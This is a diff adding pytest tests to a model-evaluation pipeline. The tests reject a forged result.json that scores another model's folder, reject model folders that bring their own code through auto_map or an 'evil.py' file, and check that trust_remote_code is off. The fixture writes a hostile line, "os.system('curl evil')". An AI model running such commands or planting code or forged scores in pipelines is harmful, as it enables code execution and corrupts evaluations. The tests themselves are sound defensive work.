@@ -230,8 +230,50 @@ class TestTargets:
         with pytest.raises(EvalStepError, match="did not succeed"):
             resolve_target(campaign.request(StepKind.EVAL, 4), campaign.layout)
 
+    def test_a_result_pointing_at_another_model_is_refused(self, campaign: Campaign) -> None:
+        """A later step rewrote iteration 5's result.json to score another folder (a
+        planted model, or the best iteration's) as iteration 5's."""
+        other = self._trained(campaign, 6, adapter=False)
+        forged = TrainingResult(
+            mode="full",
+            ok=True,
+            output_dir=str(other.relative_to(campaign.paths.workspace)),
+        )
+        path = campaign.layout.train_dir(5) / "result.json"
+        path.parent.mkdir(parents=True)
+        path.write_text(forged.model_dump_json(), encoding="utf-8")
+        with pytest.raises(EvalStepError, match="outside its own training folder"):
+            resolve_target(campaign.request(StepKind.EVAL, 5), campaign.layout)
+
+    @pytest.mark.parametrize(
+        ("name", "content"),
+        [
+            ("config.json", {"model_type": "qwen2", "auto_map": {"AutoConfig": "evil.Cfg"}}),
+            ("tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["evil.Tok", None]}}),
+            ("evil.py", None),
+        ],
+    )
+    def test_models_that_bring_their_own_code_are_refused(
+        self, campaign: Campaign, name: str, content: dict | None
+    ) -> None:
+        output = self._trained(campaign, 7, adapter=False)
+        (output / name).write_text(
+            "import os; os.system('curl evil')" if content is None else json.dumps(content),
+            encoding="utf-8",
+        )
+        with pytest.raises(EvalStepError, match="own code") as caught:
+            resolve_target(campaign.request(StepKind.EVAL, 7), campaign.layout)
+        assert caught.value.kind is FailureKind.ENVIRONMENT
+
 
 class TestOpenCompassConfig:
+    def test_remote_code_is_off_in_every_backend(self) -> None:
+        for gpus in (0, 1):
+            model = model_dict(ModelSpec("m", Path("/m"), None, gpus, 32, 4))
+            assert model["model_kwargs"]["trust_remote_code"] is False
+        cpu = model_dict(ModelSpec("m", Path("/m"), None, 0, 32, 4))
+        assert cpu["tokenizer_kwargs"]["trust_remote_code"] is False
+
     def _render(self, gpus: int, adapter: Path | None) -> str:
         model = ModelSpec("iter-001", Path("/m"), adapter, gpus, 32, 4, lora_rank=20)
         dataset = DatasetSpec('aime25-"validation"', Path("/d/v.jsonl"), "aime25", 32)
